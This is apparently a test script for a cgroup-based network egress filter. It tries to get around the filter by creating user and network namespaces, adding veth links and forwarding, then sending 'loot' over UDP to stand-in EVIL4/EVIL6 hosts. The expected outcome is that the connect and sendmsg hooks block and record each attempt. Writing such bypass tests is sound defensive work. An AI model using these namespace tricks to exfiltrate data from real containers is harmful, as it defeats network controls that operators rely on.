#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: makes a user and a network namespace, leads a veth from there into the container's, forwards, and sends from inside; or enters one that was there before
# stopped-by: connect4, sendmsg4, sendmsg6
# reason: destination
# kernels: all
#
# It has CAP_NET_ADMIN in its container's network namespace here, which takes more than a container usually
# has. A socket belongs to the cgroup of who made it, in whatever namespace. What no socket of the cgroup
# sends (forwarded frames of a tun device, the outer packets of a tunnel) is for the hooks on the interface.
. "$(dirname "$0")/lib.sh"
need_program ip
arena tcp/443 udp/9000
client sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1

# A namespace that somebody else made, with its own way through the client's.
new_netns other && OTHER=$REPLY
ip -n "$CLIENT" link add other0 type veth peer name eth0 netns "$OTHER"
ip -n "$OTHER" address add 10.9.0.2/24 dev eth0
ip -n "$OTHER" link set eth0 up
ip -n "$CLIENT" address add 10.9.0.1/24 dev other0
ip -n "$CLIENT" link set other0 up
ip -n "$OTHER" route add default via 10.9.0.1
export OTHER

attack_by <<'PYTHON'
from attacker import *
import subprocess

CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000

def run(command):
    subprocess.run(command, shell=True, check=True)

def send_all(tag):
    with attempt(tag + ", unconnected"):
        udp(EVIL4).sendto(loot(tag + "-udp"), (EVIL4, 9000))
    with attempt(tag + ", connected"):
        sock = udp(EVIL4)
        sock.connect((EVIL4, 9000))
        sock.send(loot(tag + "-connected"))

def inside():
    """A child with a network namespace of its own, which the parent connects."""
    told, tell = os.pipe()
    made, make = os.pipe()
    pid = os.fork()
    if pid == 0:
        check(LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNET))
        os.write(make, b".")
        os.read(told, 1)
        send_all("new")
        with attempt("new, IPv6"):
            udp(EVIL6).sendto(loot("new-ipv6"), (EVIL6, 9000))
        os._exit(0)
    os.read(made, 1)
    nsenter = f"nsenter --net=/proc/{pid}/ns/net"
    run(f"ip link add new0 type veth peer name in0 netns {pid}")
    run("ip address add 10.8.0.1/24 dev new0; ip address add fd08::1/64 dev new0 nodad; ip link set new0 up")
    run(f"{nsenter} ip address add 10.8.0.2/24 dev in0; {nsenter} ip address add fd08::2/64 dev in0 nodad")
    run(f"{nsenter} ip link set in0 up; {nsenter} ip route add default via 10.8.0.1")
    run(f"{nsenter} ip -6 route add default via fd08::1")
    os.write(tell, b".")
    os.waitpid(pid, 0)
    subprocess.run("ip link del new0", shell=True, stderr=subprocess.DEVNULL)  # or it went with the child

try:
    inside()
except OSError as error:
    skip(f"no user and network namespace can be made: {error}")
pid = os.fork()
if pid == 0:
    with open(f"/run/netns/{os.environ['OTHER']}") as other:
        check(LIBC.setns(other.fileno(), CLONE_NEWNET))
    send_all("other")
    os._exit(0)
os.waitpid(pid, 0)
PYTHON
works stolen:new-udp stolen:new-connected stolen:new-ipv6 stolen:other-udp stolen:other-connected
gate
stopped
recorded connect4 destination
recorded sendmsg4 destination
recorded sendmsg6 destination
